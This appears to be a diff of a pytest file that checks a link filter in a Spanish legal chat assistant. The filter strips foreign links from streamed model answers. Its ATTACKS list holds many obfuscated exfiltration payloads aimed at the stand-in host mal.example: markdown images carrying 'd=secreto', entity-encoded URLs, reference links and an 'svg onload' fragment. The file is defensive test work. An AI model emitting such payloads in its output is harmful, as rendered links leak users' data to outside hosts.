@@ -3,21 +3,23 @@
 import json
 import random
 import re
+from html.parser import HTMLParser
 from typing import Any
 
 import httpx
 import pytest
 from langchain_core.messages import AIMessageChunk
+from markdown_it import MarkdownIt
 from support.loopback import remote, serving
 from support.openai_server import OpenAIServer, Reply
 from support.waiting import PATIENCE
 from support.wired import META, QUESTION, VACATION, Wired, shown, wired
 
 from server.app import create_app
-from services.prompting.outgoing_links import LinkFilter, without_foreign_links
+from services.prompting.outgoing_links import LinkFilter, inert, without_foreign_links
 
 OWN = VACATION["url"]
-NOTE = "enlace omitido"
+NOTE = "[enlace omitido]"
 ATTACKS = [
     "![x](https://mal.example/?d=secreto)",
     "![x]  (//mal.example/i.png)",
@@ -43,19 +45,81 @@ ATTACKS = [
     f"{OWN}?d=secreto",
     "https://www.boe.es@mal.example/a",
     "w[C9]ww.mal.example/a",
+    "[x]: mal\n\n[x]",
+    "[x\ny]: mal 'título'\n\n[x y]",
+    "<https://mal.example/a?d=secreto>",
+    "&lt;img src=x&gt; y &#60;svg onload=x&#62;",
+    "https&#58;&#47;&#47;mal.example/?d=1",
+    "https&colon;//mal.example/?d=1",
+    "&amp;#104;ttps:&#x2f;/mal.example",
+    "_www.mal.example/?d=1_ y ~//mal.example~",
+    "www\\.mal.example y https\\://mal.example y \\/\\/mal.example",
+    "secreto@mal.example",
+    "xmpp:secreto@mal.example/a",
+    "mal.example/?d=secreto",
+    "s\u00adecreto.mal.example/a\U000e0041",
+    f"{OWN})](&d=secreto",
+    f"[x]({OWN})title=secreto",
+    f"«{OWN}»secreto {OWN}[d=secreto]",
+    f"{OWN}\u00a0[secreto",
+    "ht\x0ctps://mal.example/a",
 ]
+ALL_TOGETHER = "\n\n".join(ATTACKS)
 LIVE = re.compile(
     r"!\[|\]\((?!https://www\.boe\.es/[^\s()]*\))|\]:\s*\S*[/&]|<[a-z/!?]|(?:data|javascript):", re.IGNORECASE
 )
 
 
+class Led(HTMLParser):
+    """Keeps where what is rendered leads, or what it fetches."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.to: set[str | None] = set()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.to |= {value for name, value in attrs if name in ("href", "src")}
+        self.to |= {tag} - TEXT_TAGS
+
+
+TEXT_TAGS = {
+    "p",
+    "a",
+    "em",
+    "strong",
+    "code",
+    "pre",
+    "ul",
+    "ol",
+    "li",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "blockquote",
+    "hr",
+    "br",
+}
+MARKDOWN = MarkdownIt("commonmark", {"html": True})
+
+
+def rendered(text: str) -> set[str | None]:
+    """Return where a text leads once it is rendered, and the tags in it that are no text."""
+    led = Led()
+    led.feed(MARKDOWN.render(text))
+    return led.to
+
+
 def leads_away(text: str) -> bool:
     """Tell whether anything in a text is live, or names the foreign host as an address."""
-    addresses = re.findall(r"(?:https?:|//|www\.)[^\s)\]>]*", text.replace(OWN, ""))
+    addresses = re.findall(r"(?:https?:|//|www\.)[^\s)\]>]*|\S@\S+\.\w|\w\.\w+/\S", text.replace(OWN, ""))
     return bool(
         LIVE.search(text)
         or addresses
-        or text.count(OWN) != len(re.findall(re.escape(OWN) + r"(?=$|[\s).,\[>›])", text))
+        or rendered(text) - {OWN}
+        or text.count(OWN) != len(re.findall(re.escape(OWN) + r"(?=$|[\s).,])", text))
     )
 
 
@@ -76,7 +140,39 @@ def test_no_cut_of_a_stream_lets_anything_through(attack: str) -> None:
         assert filtered.text == whole
 
 
-@pytest.mark.parametrize("attack", ATTACKS)
+def test_no_renderer_makes_a_link_of_what_the_pieces_of_attacks_add_up_to() -> None:
+    pieces = [piece for attack in ATTACKS for piece in re.findall(r"\w+|\W", attack)]
+    for seed in range(500):
+        chance = random.Random(seed)
+        text = "".join(chance.choice(pieces) for _ in range(chance.randrange(2, 40)))
+        whole = without_foreign_links(text, {OWN}, NOTE)
+        assert rendered(whole) <= {OWN}, text
+        assert without_foreign_links(whole, {OWN}, NOTE) == whole, text
+        assert rendered(inert(text)) == set(), text
+
+
+def test_what_a_document_says_keeps_its_addresses_to_be_read_and_nothing_that_is_fetched() -> None:
+    said = inert(
+        "<img src=x> ![a](//b.es) [Aquí](https://c.es/d) www.sepe.es, x@sepe.es &#60;svg>\u202e [C1]\n[e]: //f"
+    )
+    assert said == "‹img src=x> [a] (//b.es) [Aquí] (https://c.es/d) www.sepe.es, x@sepe.es ‹svg> [C1]\n[e] : //f"
+
+
+@pytest.mark.parametrize(
+    "plain",
+    [
+        "¡Enhorabuena! [C1]",
+        "Lo dice [C1]: 30 días; véase [C2]: 15.",
+        "arts. 38.1/2 y 3, R.D.Leg. 2/2015, y/o 1//2, 10:30/11:45, ET:38, sepe.es, @sepe",
+        f"({OWN}). **{OWN}**",
+        "R&D, 5 < 6, a -> b, AT&T;",
+    ],
+)
+def test_plain_text_stays_as_it_is(plain: str) -> None:
+    assert without_foreign_links(plain, {OWN}, NOTE) == plain
+
+
+@pytest.mark.parametrize("attack", [*ATTACKS[:3], ALL_TOGETHER])
 async def test_streamed_tokens_messages_and_result_lead_to_sources_alone(server: OpenAIServer, attack: str) -> None:
     async with wired(server) as rig:
         server.answer("principal", lambda request: Reply(f"Son 30 días [C1]. {attack} Fin, {OWN}.{META}", piece=3))
@@ -89,14 +185,13 @@ async def test_streamed_tokens_messages_and_result_lead_to_sources_alone(server:
             elif isinstance(item[0], AIMessageChunk):
                 said[item[0].id or ""] = said.get(item[0].id or "", "") + str(item[0].text)
         result = events[-1]["result"]
-    # What a marker that vanishes would have joined is parted by it in the stream.
     assert result["answer"].endswith(f"Fin, {OWN}.")
     for text in (result["answer"], *shown(events), *said.values()):
         assert not leads_away(text), text
 
 
 def test_no_front_lets_anything_through(server: OpenAIServer) -> None:
-    written = " ".join(ATTACKS)
+    written = ALL_TOGETHER
     rig = Wired(server)
     server.answer("principal", lambda request: Reply(f"Son 30 días [C1]. {written}{META}", piece=9))
     with serving(create_app(rig.graph, close=rig.close)) as url, httpx.Client(base_url=url, timeout=PATIENCE) as http:
